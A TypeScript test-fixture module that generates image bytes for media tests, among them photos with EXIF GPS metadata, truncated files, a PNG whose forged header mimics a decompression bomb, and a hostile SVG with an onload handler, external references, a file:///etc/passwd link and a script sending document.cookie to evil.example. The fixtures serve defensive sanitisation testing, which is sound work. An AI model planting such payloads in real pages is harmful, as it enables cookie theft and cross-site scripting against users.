import { crc32 } from 'node:zlib';
import sharp from 'sharp';

/**
 * Real image bytes for the media tests, made with sharp at test time: a picture with shapes and
 * gradients (something an encoder has to work on), its variants with metadata, and the broken files
 * a WordPress can serve.
 */
export async function photoJpeg(width = 1600, height = 1067, quality = 85): Promise<Buffer> {
  return sharp(pictureSvg(width, height)).jpeg({ quality }).toBuffer();
}

export async function photoPng(width: number, height: number, alpha = false): Promise<Buffer> {
  const image = sharp(pictureSvg(width, height, alpha));
  return (alpha ? image : image.flatten({ background: '#ffffff' })).png().toBuffer();
}

/** A picture as SVG markup: sky gradient, a court, players as circles, a scoreboard. */
function pictureSvg(width: number, height: number, alpha = false): Buffer {
  const circles = Array.from({ length: 24 }, (_, index) => {
    const x = ((index * 7919) % 97) / 97;
    const y = ((index * 104729) % 89) / 89;
    const colours = ['#d4a72c', '#0b1d3a', '#c0392b', '#ecf0f1', '#27ae60'];
    return `<circle cx="${(x * width).toFixed(0)}" cy="${(0.35 * height + y * 0.6 * height).toFixed(0)}" r="${(width / 40 + (index % 5) * 6).toFixed(0)}" fill="${colours[index % colours.length]}"/>`;
  }).join('');
  const background = alpha ? '' : `<rect width="${width}" height="${height}" fill="url(#sky)"/>`;
  return Buffer.from(
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}">` +
      `<defs><linearGradient id="sky" x1="0" y1="0" x2="0" y2="1"><stop offset="0" stop-color="#13294f"/><stop offset="1" stop-color="#8fb3d9"/></linearGradient></defs>` +
      `${background}<rect y="${height * 0.6}" width="${width}" height="${height * 0.4}" fill="#b5651d" opacity="0.9"/>` +
      `${circles}<rect x="${width * 0.05}" y="${height * 0.05}" width="${width * 0.3}" height="${height * 0.12}" fill="#000" stroke="#d4a72c" stroke-width="6"/>` +
      `</svg>`,
  );
}

/** A phone photo: EXIF with the camera and a GPS position, an XMP packet and an ICC profile. */
export async function phoneJpegWithGps(width = 1200, height = 800): Promise<Buffer> {
  return sharp(await photoJpeg(width, height))
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Phone 15', Copyright: 'Jean Dupont' },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '49/1 50/1 5/1', GPSLongitudeRef: 'E', GPSLongitude: '3/1 17/1 12/1' },
    })
    .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/" dc:creator="Jean Dupont, Saint-Quentin"/></rdf:RDF></x:xmpmeta>')
    .withIccProfile('p3')
    .jpeg({ quality: 85 })
    .toBuffer();
}

/** A landscape picture stored sideways with EXIF orientation 6 (rotate 90° to display). */
export async function sidewaysJpeg(storedWidth: number, storedHeight: number): Promise<Buffer> {
  return sharp(await photoJpeg(storedWidth, storedHeight)).withMetadata({ orientation: 6 }).jpeg().toBuffer();
}

/** An animated GIF whose frames are red, green, blue. */
export async function animatedGif(width: number, height: number, frames = 3): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3 * frames);
  for (let frame = 0; frame < frames; frame += 1) {
    for (let pixel = 0; pixel < width * height; pixel += 1) pixels[(frame * width * height + pixel) * 3 + (frame % 3)] = 255;
  }
  return sharp(pixels, { raw: { width, height: height * frames, channels: 3, pageHeight: height } })
    .gif({ delay: Array.from({ length: frames }, () => 200), loop: 0 })
    .toBuffer();
}

/** The first part of a file, as a dropped connection or a full disk leaves it. */
export function truncated(bytes: Buffer, keep = 0.6): Buffer {
  return bytes.subarray(0, Math.floor(bytes.length * keep));
}

/** What a misconfigured server answers for a missing .jpg. */
export const HTML_ERROR_PAGE = Buffer.from('<!DOCTYPE html>\n<html lang="fr"><head><title>Page introuvable</title></head><body><h1>Oups</h1></body></html>\n');

/** A real 1 × 1 PNG whose header claims `width` × `height`: a decompression bomb's shape. */
export async function pngClaiming(width: number, height: number): Promise<Buffer> {
  const png = Buffer.from(await sharp({ create: { width: 1, height: 1, channels: 3, background: '#ff0000' } }).png().toBuffer());
  png.writeUInt32BE(width, 16);
  png.writeUInt32BE(height, 20);
  png.writeUInt32BE(crc32(png.subarray(12, 29)), 29);
  return png;
}

/** An SVG carrying a script, an event handler and references to other hosts and to local files. */
export function hostileSvg(externalUrl: string): Buffer {
  return Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="300" height="150" onload="alert(1)">` +
      `<script>fetch('https://evil.example/?c=' + document.cookie)</script>` +
      `<style>@import url(${externalUrl}/style.css);</style>` +
      `<rect width="300" height="150" fill="#0b1d3a"/><circle cx="150" cy="75" r="50" fill="#d4a72c"/>` +
      `<image href="${externalUrl}/tracker.png" width="10" height="10"/><image xlink:href="file:///etc/passwd" width="10" height="10"/>` +
      `</svg>`,
  );
}
